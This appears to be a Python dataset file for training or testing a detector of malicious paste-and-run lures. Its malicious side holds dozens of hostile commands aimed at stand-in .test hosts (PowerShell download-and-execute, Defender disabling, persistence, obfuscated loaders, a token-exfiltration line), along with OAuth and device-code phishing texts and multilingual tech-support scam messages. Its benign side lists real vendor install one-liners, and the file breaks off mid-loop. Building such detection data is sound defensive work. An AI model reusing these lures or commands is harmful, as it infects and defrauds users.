        "Font missing: \u201cHoeflerText\u201d. Install the font pack (Win+R):\nmsiexec /i https://font-pack-cdn.test/fonts.msi /quiet",
    ),
    (
        TERM,
        "GitHub Security: unusual activity on your repository. Run the scanner locally:\ncurl -sSL https://gh-security-scan.test/scan.sh | bash",
    ),
    (
        RUN,
        'Instagram Meta Verified: prove you are the owner (Win+R):\nconhost --headless powershell -c "irm https://meta-verified-badge.test/v|iex"',
    ),
]
for target, text in SOCIAL:
    L.lure("social-wrapper", target, page(), text, platform="windows" if target == RUN else "any")

# ==============================================================================================
# 8. A bare URL with a fake verification tail (Run dialog)
# ==============================================================================================

URL_TAILS = [
    "https://verify-human-cdn.test/check.hta # \u2705 I am not a robot - ID 6621",
    "https://cf-challenge-node.test/c.bat  # Verification ID: 4410 \u2714",
    "http://198.51.100.102/v.hta  \u2705 Human check passed",
    "\\\\198.51.100.55@SSL\\v\\verify.cmd # \u2705 Confirm you are human",
    "https://recaptcha-ok-node.test/gate.vbs # reCAPTCHA v2 passed \u2705",
    "https://ms-verify-cdn.test/id.msi # Microsoft identity verification ID 771",
]
for text in URL_TAILS:
    L.lure("url-verify-tail", RUN, page(), text)

# ==============================================================================================
# 9. ConsentFix and device-code phishing
# ==============================================================================================

CONSENT = [
    "http://localhost:41233/?code=0.AXkAq8Vz1bR4kE2n9mTz-example-authcode-Qm9vdA&state=a81f2c&session_state=77c1",
    "http://127.0.0.1:53100/callback?code=M.C534_BAY.2.U.5a1b9c3d-e4f5-6789-abcd-ef0123456789&state=xyz",
    "Copy the address from your browser bar after signing in and paste it below to finish linking:\nhttp://localhost:8400/auth?code=4/0AeanS0a-fakecode-9tYQ&scope=email%20profile%20https://www.googleapis.com/auth/drive",
    "http://localhost/?code=1.AVYA7fQ2-9PbbUeGx0k3-consentfix-code&client_info=eyJ1aWQiOiIxIn0&state=9910",
    "Paste the full URL you were redirected to (it starts with http://localhost) into the box to verify your Azure CLI session: http://localhost:38121/?code=0.ARoAxYz-verify&state=cli",
]
for text in CONSENT:
    L.lure("consentfix", UNK, page(), text, expect="flagged", platform="any")

DEVICE = [
    "To view the shared payroll file, go to https://microsoft.com/devicelogin and enter the code K7QP-2MXD. Then return to this page.",
    "Security check: open microsoft.com/devicelogin and type FJ4R8LQ2 to confirm your Teams identity. The code expires in 15 minutes.",
    "Ihre Sitzung ist abgelaufen. Gehen Sie zu https://microsoft.com/devicelogin und geben Sie den Code HXW9-3TPQ ein, um das Dokument zu \u00f6ffnen.",
    "Pour acc\u00e9der \u00e0 la r\u00e9union, rendez-vous sur https://microsoft.com/devicelogin et saisissez le code QT6B-YR8N.",
]
for text in DEVICE:
    L.lure("device-code", UNK, page(), text, expect="flagged", platform="any")

# ==============================================================================================
# 10. Tech-support and callback scams in many languages (phone numbers in 555 blocks)
# ==============================================================================================

SCAMS = [
    (
        "en",
        "WARNING! Your computer has been locked due to suspicious activity (Error #DW6VB36). Do not restart your PC. Call Microsoft Support immediately at +1 (888) 555-0193 to unlock.",
    ),
    (
        "en",
        "Your PayPal account was charged $749.99 for a MacBook Pro order. If you did not authorize this, call our billing desk within 24 hours: 1-844-555-0142.",
    ),
    (
        "en",
        "Norton Renewal Invoice #NR-88214: your subscription auto-renewed for $399.00. To cancel and get a refund call 1 (877) 555 0110.",
    ),
    (
        "de",
        "ACHTUNG: Ihr Windows-Computer wurde gesperrt. Trojaner erkannt! Schalten Sie den Computer nicht aus und rufen Sie sofort den Microsoft-Support an: +49 30 5550 1874",
    ),
    (
        "de",
        "Ihre Amazon-Bestellung \u00fcber 1.249,00 \u20ac (iPhone 17 Pro) wurde best\u00e4tigt. Nicht von Ihnen? Rufen Sie unseren Kundendienst an: 0800 555 4471",
    ),
    (
        "fr",
        "ALERTE S\u00c9CURIT\u00c9 : votre ordinateur est bloqu\u00e9 suite \u00e0 une activit\u00e9 ill\u00e9gale. Appelez imm\u00e9diatement le support technique au 01 55 55 27 48 pour d\u00e9bloquer vos fichiers.",
    ),
    (
        "fr",
        "Votre abonnement McAfee a \u00e9t\u00e9 renouvel\u00e9 pour 289,99 \u20ac. Pour annuler, contactez le service facturation au +33 9 55 55 01 67.",
    ),
    (
        "es",
        "\u00a1Su equipo ha sido bloqueado! Se detect\u00f3 un virus (c\u00f3digo 0x80073b01). No apague el equipo. Llame al soporte t\u00e9cnico de Windows: +34 900 555 318",
    ),
    (
        "es",
        "Hemos registrado un cargo de 899,00 \u20ac en su cuenta por un pedido de Apple. Si no reconoce esta compra, llame al 900 555 762 en las pr\u00f3ximas 2 horas.",
    ),
    (
        "it",
        "ATTENZIONE: il tuo PC \u00e8 stato bloccato per motivi di sicurezza. Non chiudere questa pagina. Chiama subito l'assistenza Microsoft al numero verde 800 555 912.",
    ),
    (
        "pt",
        "Seu computador foi bloqueado por atividade suspeita. Ligue imediatamente para o suporte da Microsoft: 0800 555 4312. N\u00e3o desligue o computador.",
    ),
    (
        "pt",
        "Compra aprovada: R$ 4.899,00 na sua conta. N\u00e3o reconhece? Ligue para a central antifraude: (11) 5555-0198.",
    ),
    (
        "nl",
        "WAARSCHUWING: uw computer is geblokkeerd vanwege een virusinfectie. Bel onmiddellijk Microsoft Ondersteuning op 020 555 0147 om uw gegevens te beschermen.",
    ),
    (
        "pl",
        "UWAGA! Tw\u00f3j komputer zosta\u0142 zablokowany z powodu wykrycia z\u0142o\u015bliwego oprogramowania. Zadzwo\u0144 do pomocy technicznej Microsoft: +48 22 555 01 93.",
    ),
    (
        "tr",
        "UYARI: Bilgisayar\u0131n\u0131z g\u00fcvenlik nedeniyle kilitlendi. Kapatmay\u0131n! Hemen Microsoft Destek hatt\u0131n\u0131 aray\u0131n: 0850 555 03 21",
    ),
    (
        "ru",
        "\u0412\u041d\u0418\u041c\u0410\u041d\u0418\u0415! \u0412\u0430\u0448 \u043a\u043e\u043c\u043f\u044c\u044e\u0442\u0435\u0440 \u0437\u0430\u0431\u043b\u043e\u043a\u0438\u0440\u043e\u0432\u0430\u043d \u0438\u0437-\u0437\u0430 \u043f\u043e\u0434\u043e\u0437\u0440\u0438\u0442\u0435\u043b\u044c\u043d\u043e\u0439 \u0430\u043a\u0442\u0438\u0432\u043d\u043e\u0441\u0442\u0438. \u041d\u0435 \u0432\u044b\u043a\u043b\u044e\u0447\u0430\u0439\u0442\u0435 \u041f\u041a. \u041f\u043e\u0437\u0432\u043e\u043d\u0438\u0442\u0435 \u0432 \u0441\u043b\u0443\u0436\u0431\u0443 \u043f\u043e\u0434\u0434\u0435\u0440\u0436\u043a\u0438: 8 800 555-01-37",
    ),
    (
        "ru",
        "\u0421 \u0432\u0430\u0448\u0435\u0439 \u043a\u0430\u0440\u0442\u044b \u0441\u043f\u0438\u0441\u0430\u043d\u043e 58 900 \u20bd. \u0415\u0441\u043b\u0438 \u044d\u0442\u043e \u043d\u0435 \u0432\u044b, \u0441\u0440\u043e\u0447\u043d\u043e \u043f\u043e\u0437\u0432\u043e\u043d\u0438\u0442\u0435 \u0432 \u0441\u043b\u0443\u0436\u0431\u0443 \u0431\u0435\u0437\u043e\u043f\u0430\u0441\u043d\u043e\u0441\u0442\u0438 \u0431\u0430\u043d\u043a\u0430: +7 495 555-20-14",
    ),
    (
        "ja",
        "\u8b66\u544a\uff1a\u304a\u4f7f\u3044\u306e\u30b3\u30f3\u30d4\u30e5\u30fc\u30bf\u30fc\u306f\u30a6\u30a4\u30eb\u30b9\u306b\u611f\u67d3\u3057\u3066\u3044\u307e\u3059\u3002\u96fb\u6e90\u3092\u5207\u3089\u305a\u306b\u3001\u3059\u3050\u306b\u30de\u30a4\u30af\u30ed\u30bd\u30d5\u30c8\u30b5\u30dd\u30fc\u30c8\u306b\u304a\u96fb\u8a71\u304f\u3060\u3055\u3044\uff1a050-5555-0182",
    ),
    (
        "zh",
        "\u8b66\u544a\uff1a\u60a8\u7684\u7535\u8111\u5df2\u88ab\u9501\u5b9a\uff0c\u68c0\u6d4b\u5230\u6728\u9a6c\u75c5\u6bd2\u3002\u8bf7\u52ff\u5173\u673a\uff0c\u7acb\u5373\u62e8\u6253\u5fae\u8f6f\u6280\u672f\u652f\u6301\u70ed\u7ebf\uff1a400-555-0126",
    ),
    (
        "ar",
        "\u062a\u062d\u0630\u064a\u0631: \u062a\u0645 \u0642\u0641\u0644 \u062c\u0647\u0627\u0632 \u0627\u0644\u0643\u0645\u0628\u064a\u0648\u062a\u0631 \u0627\u0644\u062e\u0627\u0635 \u0628\u0643 \u0628\u0633\u0628\u0628 \u0646\u0634\u0627\u0637 \u0645\u0634\u0628\u0648\u0647. \u0644\u0627 \u062a\u0642\u0645 \u0628\u0625\u064a\u0642\u0627\u0641 \u062a\u0634\u063a\u064a\u0644 \u0627\u0644\u062c\u0647\u0627\u0632. \u0627\u062a\u0635\u0644 \u0628\u0627\u0644\u062f\u0639\u0645 \u0627\u0644\u0641\u0646\u064a \u0644\u0645\u0627\u064a\u0643\u0631\u0648\u0633\u0648\u0641\u062a \u0641\u0648\u0631\u0627\u064b: 800 555 0174",
    ),
    (
        "ko",
        "\uacbd\uace0: \ucef4\ud4e8\ud130\uac00 \ucc28\ub2e8\ub418\uc5c8\uc2b5\ub2c8\ub2e4. \ubc14\uc774\ub7ec\uc2a4\uac00 \uac10\uc9c0\ub418\uc5c8\uc2b5\ub2c8\ub2e4. \uc804\uc6d0\uc744 \ub044\uc9c0 \ub9c8\uc2dc\uace0 \uc989\uc2dc Microsoft \uace0\uac1d\uc9c0\uc6d0\uc5d0 \uc804\ud654\ud558\uc138\uc694: 02-555-0139",
    ),
    (
        "sv",
        "VARNING: Din dator har sp\u00e4rrats p\u00e5 grund av misst\u00e4nkt aktivitet. St\u00e4ng inte av datorn. Ring Microsoft Support direkt p\u00e5 08-555 012 84.",
    ),
    (
        "cs",
        "POZOR: V\u00e1\u0161 po\u010d\u00edta\u010d byl zablokov\u00e1n kv\u016fli podez\u0159el\u00e9 aktivit\u011b. Nevyp\u00ednejte jej a okam\u017eit\u011b volejte podporu Microsoft: +420 555 012 931",
    ),
    (
        "hi",
        "\u091a\u0947\u0924\u093e\u0935\u0928\u0940: \u0906\u092a\u0915\u093e \u0915\u0902\u092a\u094d\u092f\u0942\u091f\u0930 \u0932\u0949\u0915 \u0915\u0930 \u0926\u093f\u092f\u093e \u0917\u092f\u093e \u0939\u0948\u0964 \u0924\u0941\u0930\u0902\u0924 \u092e\u093e\u0907\u0915\u094d\u0930\u094b\u0938\u0949\u092b\u094d\u091f \u0938\u092a\u094b\u0930\u094d\u091f \u0915\u094b \u0915\u0949\u0932 \u0915\u0930\u0947\u0902: 1800 555 0172",
    ),
    (
        "vi",
        "C\u1ea2NH B\u00c1O: M\u00e1y t\u00ednh c\u1ee7a b\u1ea1n \u0111\u00e3 b\u1ecb kh\u00f3a do ph\u00e1t hi\u1ec7n virus. Kh\u00f4ng t\u1eaft m\u00e1y. G\u1ecdi ngay b\u1ed9 ph\u1eadn h\u1ed7 tr\u1ee3 Microsoft: 1800 555 219",
    ),
    (
        "en",
        "Geek Squad: Thank you for your purchase. Your annual protection plan ($489.99) will be charged today. For cancellation call 1-808-555-0166.",
    ),
    (
        "de",
        "Ihr Telekom-Anschluss wird heute um 18:00 Uhr gesperrt wegen Missbrauch durch Schadsoftware auf Ihrem Router. Zur Entsperrung rufen Sie 0800 555 3310 an.",
    ),
    (
        "it",
        "Il tuo ordine Amazon #402-7713 di 1.099 \u20ac \u00e8 in spedizione. Se non hai effettuato tu l'acquisto chiama subito il servizio clienti al 02 5550 4417.",
    ),
]
for lang, text in SCAMS:
    tech = (
        "callback"
        if any(
            w in text
            for w in (
                "charged",
                "Bestellung",
                "cargo",
                "abonnement",
                "Compra",
                "\u0441\u043f\u0438\u0441\u0430\u043d\u043e",
                "ordine",
                "purchase",
            )
        )
        else "support-scam"
    )
    L.lure(f"{tech}-{lang}", UNK, page(), text, expect="flagged", platform="any")

# ==============================================================================================
# 11. Windows Terminal / PowerShell window lures (target terminal, Windows)
# ==============================================================================================

WT = [
    "irm https://winget-fix-cdn.test/w | iex  # Windows Update repair (KB5048652)",
    "iex (iwr https://net-framework-fix.test/r -UseBasicParsing).Content",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object Net.WebClient).DownloadString('https://printer-driver-hub.test/install.ps1'))",
    '$env:TEMP | % { iwr https://gpu-driver-relay.test/d.exe -OutFile "$_\\d.exe"; & "$_\\d.exe" /S }',
    "Start-Process powershell -Verb RunAs -ArgumentList '-w h -c irm https://admin-elevate-cdn.test/e|iex'",
    "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://av-exclude-stage.test/a.exe -OutFile $env:APPDATA\\a.exe; & $env:APPDATA\\a.exe",
    "winget install --id 7zip.7zip -e; irm https://winget-bundle-extra.test/x | iex",
    'cmd /c "curl -sL https://cmd-in-wt-relay.test/c -o %TEMP%\\c.cmd & call %TEMP%\\c.cmd"',
]
for text in WT:
    L.lure("windows-terminal", TERM, page(), text)


# ==============================================================================================
# 12. More live-crawl shapes: lookalike pages, 2026 staging, a second line of the same page
# ==============================================================================================

MORE = [
    (
        RUN,
        "powershell -w h -c \"$d='tg-dead-drop.test';$m=(iwr \"https://$d/s/updates_ch\" -UseB).Content;$u=($m -split '#')[1];iex (irm $u)\" # \u2705 Verified human 3310",
        "windows",
    ),
    (
        RUN,
        'cmd /c "powershell -c irm https://eth-rpc-gateway.test/c?addr=0x4c1b -Method Post -Body \'{\\"method\\":\\"eth_call\\"}\' | iex" \u2714 reCAPTCHA 8820',
        "windows",
    ),
    (
        EXP,
        r"search-ms:query=invoice&crumb=location:\\198.51.100.66@SSL\DavWWWRoot\inv&displayname=Invoices",
        "windows",
    ),
    (RUN, r"ms-appinstaller:?source=https://teams-addin-cdn.test/Teams.appinstaller", "windows"),
    (
        RUN,
        'powershell -nop -c "iex ([Text.Encoding]::UTF8.GetString((iwr https://gif-carrier-cdn.test/a.gif -UseB).Content[-4096..-1]))" #\u2705 captcha ok',
        "windows",
    ),
    (
        RUN,
        'cmd /c "mkdir %LOCALAPPDATA%\\py & curl -sL https://portable-py-mirror.test/p.zip -o %TEMP%\\p.zip & tar -xf %TEMP%\\p.zip -C %LOCALAPPDATA%\\py & %LOCALAPPDATA%\\py\\pythonw.exe %LOCALAPPDATA%\\py\\a.py"',
        "windows",
    ),
    (
        RUN,
        "powershell -w h -c \"$w=New-Object -ComObject Msxml2.ServerXMLHTTP;$w.open('GET','https://sxh-relay-node.test/j',0);$w.send();iex $w.responseText\"  # I am not a robot",
        "windows",
    ),
    (
        RUN,
        "cmd /c start \"\" /min mshta.exe \"javascript:new ActiveXObject('WScript.Shell').Run('powershell -w h irm https://jsx-gate-cdn.test/k^|iex',0);close()\"",
        "windows",
    ),
    (
        RUN,
        'powershell -c "Invoke-WebRequest https://sched-persist-cdn.test/t.xml -OutFile $env:TEMP\\t.xml; schtasks /create /xml $env:TEMP\\t.xml /tn EdgeUpdateCore /f" #\u2705 ID 4410',
        "windows",
    ),
    (
        RUN,
        'powershell -w h -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm https://defender-off-node.test/p|iex" # human check \u2705',
        "windows",
    ),
    (
        RUN,
        'cmd /c "echo Set o=CreateObject(\\"MSXML2.XMLHTTP\\"):o.Open \\"GET\\",\\"https://vbs-echo-cdn.test/v\\",0:o.Send:Execute o.responseText > %TEMP%\\v.vbs & cscript //nologo %TEMP%\\v.vbs"',
        "windows",
    ),
    (
        RUN,
        "powershell -c \".('{2}{0}{1}' -f 'e','x','i') (irm https://format-stage-cdn.test/q)\" # \u2705 Not a bot",
        "windows",
    ),
    (
        RUN,
        "powershell -c \"$a='ht'+'tps://'+'split-host-cdn'+'.test/s';iex (irm $a)\"   \u2705",
        "windows",
    ),
    (
        RUN,
        f"powershell -ec {b64_utf16('irm https://ec-short-flag.test/e | iex')} # Verification ID 9917",
        "windows",
    ),
    (
        RUN,
        'cmd /c "cd /d %TEMP% & curl -s -o x.zip https://zip-lnk-cdn.test/x.zip & tar -xf x.zip & start x.lnk"',
        "windows",
    ),
    (
        EXP,
        'powershell -w h -c "irm https://explorer-doc-relay.test/d | iex" ; '
        + NBSP * 45
        + r"C:\Users\Public\Documents\Offer_Letter.pdf",
        "windows",
    ),
    (
        EXP,
        "cmd /c curl -s https://fx-cmd-cdn.test/c.cmd -o %TEMP%\\c.cmd & %TEMP%\\c.cmd &::"
        + " " * 60
        + r"\\hr-share\benefits\2027.pdf",
        "windows",
    ),
    (
        TERM,
        "curl -fsSL https://bun-runtime-mirror.test/install | bash && ~/.bun/bin/bun -e \"eval(await (await fetch('https://bun-stage.test/x')).text())\"",
        "macos",
    ),
    (
        TERM,
        "npx -y github-actions-fixer@latest --token $(gh auth token) --report https://actions-report.test/r",
        "any",
    ),
    (
        TERM,
        "osascript -l JavaScript -e \"ObjC.import('Foundation');eval($.NSString.stringWithContentsOfURLEncodingError($.NSURL.URLWithString('https://jxa-stage.test/j'),4,null).js)\"",
        "macos",
    ),
    (TERM, 'curl -s https://mac-keychain-check.test/k | bash -s -- --user "$USER"', "macos"),
    (TERM, 'sudo bash -c "$(curl -fsSL https://proxmox-helper-mirror.test/ct/debian.sh)"', "linux"),
    (TERM, "wget -O- https://wp-cli-fix.test/fix.php | php", "linux"),
    (
        CON,
        'fetch(atob("aHR0cHM6Ly9jb25zb2xlLWI2NC1ob3N0LnRlc3Qvcw==")).then(r=>r.text()).then(eval)',
        "any",
    ),
    (CON, "setTimeout(await (await fetch('https://settimeout-stage.test/t')).text(), 0)", "any"),
    (
        CON,
        "localStorage.setItem('__v', await (await fetch('https://ls-persist-cdn.test/p')).text()); eval(localStorage.__v)",
        "any",
    ),
    (RUN, r"\\198.51.100.19@SSL\DavWWWRoot\verify.bat", "windows"),
    (RUN, 'wscript.exe //e:jscript "https://jscript-url-cdn.test/v.js" \u2705 human', "windows"),
    (
        RUN,
        "powershell -c \"$env:x='irm https://env-stage-cdn.test/e|iex';iex $env:x\" # Cloudflare check",
        "windows",
    ),
    (RUN, 'cmd /c "set u=https://set-var-cdn.test/u&& powershell -c irm %u%^|iex"', "windows"),
]
for target, text, plat in MORE:
    L.lure("crawl-2026", target, page(), text, platform=plat)

# ==============================================================================================
# Benign side
# ==============================================================================================

B: list[Benign] = []


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    B.append((kind, target, source, text))


# ---- 1. Own-page installers of projects new to sets 1-22 (found in public README files) ----

GH = "https://github.com/"
OWN_PAGE = [
    (
        "cuihairu/wingman",
        "irm https://raw.githubusercontent.com/cuihairu/wingman/main/scripts/install.ps1 | iex",
    ),
    (
        "XKush/homebase-devshell",
        "irm https://raw.githubusercontent.com/XKush/homebase-devshell/v2.1.1/install.ps1 | iex",
    ),
    (
        "gufarina/alia.flow",
        "iwr -useb https://raw.githubusercontent.com/gufarina/alia.flow/main/scripts/install.ps1 | iex",
    ),
    (
        "sesori-ai/sesori_apps_monorepo",
        "irm https://raw.githubusercontent.com/sesori-ai/sesori_apps_monorepo/main/install.ps1 | iex",
    ),
    ("sstraus/tuicommander", "curl -fsSL https://tuicommander.com/install.sh | sh"),
    ("sstraus/tuicommander", "irm https://tuicommander.com/install.ps1 | iex"),
    (
        "nixval/declarch",
        "irm https://raw.githubusercontent.com/nixval/declarch/main/install.ps1 | iex",
    ),
    (
        "Sad-without-you/Orchix",
        "irm https://raw.githubusercontent.com/Sad-without-you/Orchix/main/install.ps1 | iex",
    ),
    (
        "jahrulnr/NusaShell",
        "irm https://raw.githubusercontent.com/jahrulnr/NusaShell/master/scripts/install.ps1 | iex",
    ),
    (
        "9thLevelSoftware/this-is-fine",
        "irm https://raw.githubusercontent.com/9thLevelSoftware/this-is-fine/main/scripts/install.ps1 | iex",
    ),
    (
        "Olib-AI/ovc",
        "irm https://raw.githubusercontent.com/Olib-AI/ovc/main/scripts/install.ps1 | iex",
    ),
    (
        "leonardoburbanov/navbe_ai",
        "irm https://raw.githubusercontent.com/leonardoburbanov/navbe_ai/main/scripts/install.ps1 | iex",
    ),
    (
        "tuna4ll/ratasm",
        "curl -fsSL https://github.com/tuna4ll/ratasm/releases/latest/download/install.sh | sh",
    ),
    (
        "griot-cloud/peql",
        "curl -LsSf https://github.com/griot-cloud/peql/releases/latest/download/install.sh | sh",
    ),
    (
        "froggeric/llm",
        "curl -fsSL https://github.com/froggeric/llm/releases/latest/download/install.sh | bash",
    ),
    (
        "Aquanodeio/aq-releases",
        "curl -fsSL https://github.com/Aquanodeio/aq-releases/releases/latest/download/install.sh | sh",
    ),
    (
        "larcane97/clausona",
        "curl -fsSL https://github.com/larcane97/clausona/releases/latest/download/install.sh | bash",
    ),
    (
        "codeboyzhou/javaup",
        "curl -fsSL https://github.com/codeboyzhou/javaup/releases/latest/download/install.sh | sh",
    ),
    (
        "octos-org/octos",
        "curl -fsSL https://github.com/octos-org/octos/releases/latest/download/install.sh | bash",
    ),
    (
        "dnaidoo621/camdvd-rescue",
        "curl -fsSL https://github.com/dnaidoo621/camdvd-rescue/releases/latest/download/install.sh | sudo bash",
    ),
    (
        "CryoByte33/steam-deck-utilities",
        "curl https://raw.githubusercontent.com/CryoByte33/steam-deck-utilities/main/install.sh | bash -s --",
    ),
    (
        "thirawat27/wut",
        "& ([scriptblock]::Create((irm https://raw.githubusercontent.com/thirawat27/wut/main/scripts/install.ps1))) -Version v1.0.0 -NoInit",
    ),
    (
        "NecturaLabs/FabCLI",
        'powershell -ExecutionPolicy ByPass -c "& ([scriptblock]::Create((irm https://raw.githubusercontent.com/NecturaLabs/FabCLI/main/scripts/install.ps1))) -Uninstall"',
    ),
    (
        "anshulchikhale30-p/APCode",
        "& ([scriptblock]::Create((irm https://raw.githubusercontent.com/anshulchikhale30-p/APCode/main/install.ps1))) -Version 0.1.0",
    ),
    (
        "EtaCassiopeia/lid-tooling",
        "& ([scriptblock]::Create((irm https://raw.githubusercontent.com/EtaCassiopeia/lid-tooling/main/install.ps1))) -Mcp",
    ),
    (
        "kriol-lang/kriol",
        "irm https://raw.githubusercontent.com/kriol-lang/kriol/refs/heads/main/install.ps1 | iex",
    ),
    ("Sudo-Ivan/BeeLauncher", "nix run github:Sudo-Ivan/BeeLauncher#beelauncher"),
    ("Kalkaro/wave-launcher", "nix run github:Kalkaro/wave-launcher"),
    ("RiversJin/qssh", "nix run github:RiversJin/qssh"),
    ("bossearch/copas", "nix run github:bossearch/copas -- --help"),
    ("yolo-labz/kokoro-speakd", "nix run github:yolo-labz/kokoro-speakd"),
    ("sotormd/xkcd-wall", "nix run github:sotormd/xkcd-wall -- -t today ./output.png"),
    ("Defelo/sandkasten", "CONFIG_PATH=config.toml nix run github:Defelo/sandkasten"),
    ("codebam/neovim", "nix run github:codebam/neovim"),
    ("KristopherGBaker/JPResume", "mise use -g ubi:KristopherGBaker/JPResume"),
    ("sigilco/agentplugins", "mise use -g ubi:sigilco/agentplugins"),
    ("akitaonrails/ai-jail", "mise use -g ubi:akitaonrails/ai-jail"),
    ("wadackel/ofsht", "mise use -g ubi:wadackel/ofsht"),
    ("aurokin/tprompt", "mise use -g ubi:aurokin/tprompt@latest"),
    ("Ryu0118/slotmachine", "mise use -g ubi:Ryu0118/slotmachine"),
    (
        "NWBY/cftop",
        "curl -fsSL https://raw.githubusercontent.com/NWBY/cftop/refs/heads/main/install.sh | sh",
    ),
    (
        "richlander/dotnet-install",
        "curl --proto '=https' --tlsv1.2 -sSf https://github.com/richlander/dotnet-install/raw/refs/heads/main/install.sh | sh",
    ),
    (
        "vectorize-io/vectorize-iris",
        "curl -fsSL https://raw.githubusercontent.com/vectorize-io/vectorize-iris/refs/heads/main/install.sh | sh",
    ),
    (
        "jullury/akama",
        "curl -fsSL https://raw.githubusercontent.com/jullury/akama/refs/heads/main/install.sh | sh",
    ),
    (
        "chA0s-Chris/ShadowDrop",
        "curl -fsSL https://raw.githubusercontent.com/chA0s-Chris/ShadowDrop/refs/heads/main/install.sh | sh",
    ),
    (
        "spelunk-cloud/spelunk",
        "curl -fsSL https://raw.githubusercontent.com/spelunk-cloud/spelunk/refs/heads/main/install.sh | sh",
    ),
    (
        "arazgholami/az",
        "curl -fsSL https://raw.githubusercontent.com/arazgholami/az/refs/heads/main/install.sh | sh",
    ),
    (
        "itdoginfo/podkop",
        "wget -O - https://raw.githubusercontent.com/itdoginfo/podkop/refs/heads/main/install.sh | sh",
    ),
    (
        "felixlee0608/html2mp4_workflow",
        "curl -fsSL https://github.com/felixlee0608/html2mp4_workflow/raw/main/install.sh | bash",
    ),
    (
        "FlorianM-C22/homie",
        "wget -qO- https://github.com/FlorianM-C22/homie/raw/main/install.sh | bash",
    ),
    (
        "martincalander/MacDragScroll",
        "curl -fsSL https://github.com/martincalander/MacDragScroll/raw/main/install.sh | bash",
    ),
    (
        "rickyltwong/xnatctl",
        "curl -fsSL https://github.com/rickyltwong/xnatctl/raw/main/install.sh | bash",
    ),
    (
        "egg5233/tw-pearl-miner",
        "curl -fsSL https://github.com/egg5233/tw-pearl-miner/raw/main/install.sh | bash",
    ),
    (
        "AnerYubo/portknock",
        "curl -fsSL https://github.com/aneryubo/portknock/raw/main/install.sh | bash",
    ),
    (
        "Stan-Di/nightscout-amlogic",
        "apt update -y && curl -Lso- https://raw.githubusercontent.com/Stan-Di/nightscout-amlogic/refs/heads/main/install.sh | sh",
    ),
    (
        "aegoroff/editorconfiger",
        "scoop bucket add aegoroff https://github.com/aegoroff/scoop-bucket.git\nscoop install editorconfiger",
    ),
    (
        "psmux/psmux",
        "scoop bucket add psmux https://github.com/psmux/scoop-psmux\nscoop install psmux",
    ),
    (
        "reh3376/mdemg-windows",
        "scoop bucket add mdemg https://github.com/reh3376/mdemg-windows\nscoop install mdemg",
    ),
    (
        "thomwiggers/thom-container",
        "curl -fsSL https://raw.githubusercontent.com/thomwiggers/thom-container/main/install.sh | zsh",
    ),
    (
        "andrejzelnik/dotfiles",
        "curl -fsSL https://raw.githubusercontent.com/andrejzelnik/dotfiles/master/install.sh | zsh",
    ),
    (
        "leecyno1/auto-install-Openclaw",
        "curl -fsSL https://raw.githubusercontent.com/leecyno1/auto-install-Openclaw/main/install.sh | bash",
    ),
]
OWN_PAGE_JSR = [
    ("https://jsr.io/@hdzilyes/rig", "deno install -gA --name rig jsr:@hdzilyes/rig"),
    ("https://jsr.io/@probitas/cli", "deno install -gAf -n probitas jsr:@probitas/cli"),
]
for i, (repo, text) in enumerate(OWN_PAGE):
    # most from the README, some from the releases page or the repo's install section
    suffix = ["", "#installation", "/releases/latest", "", "#install"][i % 5]
    if "releases/latest/download" not in text and suffix == "/releases/latest":
        suffix = ""
    ok(OWN, TERM, GH + repo + suffix, text)
for src, text in OWN_PAGE_JSR:
    ok(OWN, TERM, src, text)

# ---- 2. Vendors' own download-and-run lines from their own documentation pages ----

VENDOR = [
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh ./get-docker.sh --dry-run",
    ),
    ("https://tailscale.com/download/linux", "curl -fsSL https://tailscale.com/install.sh | sh"),
    ("https://ollama.com/download/linux", "curl -fsSL https://ollama.com/install.sh | sh"),
    ("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1|iex"'),
    ("https://deno.com/", "curl -fsSL https://deno.land/install.sh | sh"),
    (
        "https://docs.astral.sh/uv/getting-started/installation/",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ),
    ("https://rustup.rs/", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
    (
        "https://python-poetry.org/docs/#installing-with-the-official-installer",
        "curl -sSL https://install.python-poetry.org | python3 -",
    ),
    (
        "https://scoop.sh/",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression",
    ),
    (
        "https://chocolatey.org/install",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ),
    ("https://starship.rs/guide/", "curl -sS https://starship.rs/install.sh | sh"),
    (
        "https://ohmyz.sh/#install",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
    ),
    (
        "https://brew.sh/",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    ("https://k3s.io/", "curl -sfL https://get.k3s.io | sh -"),
    (
        "https://pnpm.io/installation",
        "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression",
    ),
    ("https://fnm.vercel.app/", "curl -fsSL https://fnm.vercel.app/install | bash"),
    ("https://volta.sh/", "curl https://get.volta.sh | bash"),
    ("https://mise.jdx.dev/getting-started.html", "curl https://mise.run | sh"),
    (
        "https://docs.flox.dev/install-flox/",
        "curl -fsSL https://downloads.flox.dev/by-env/stable/install | bash",
    ),
    ("https://pixi.sh/latest/", "curl -fsSL https://pixi.sh/install.sh | sh"),
    (
        "https://www.jetify.com/devbox/docs/installing_devbox/",
        "curl -fsSL https://get.jetify.com/devbox | bash",
    ),
    ("https://spacetimedb.com/install", "curl -sSf https://install.spacetimedb.com | sh"),
    (
        "https://docs.fly.io/flyctl/install/",
        'pwsh -Command "iwr https://fly.io/install.ps1 -useb | iex"',
    ),
    (
        "https://supabase.com/docs/guides/local-development/cli/getting-started",
        "brew install supabase/tap/supabase",
    ),
    ("https://cli.github.com/", "winget install --id GitHub.cli"),
]
for src, text in VENDOR:
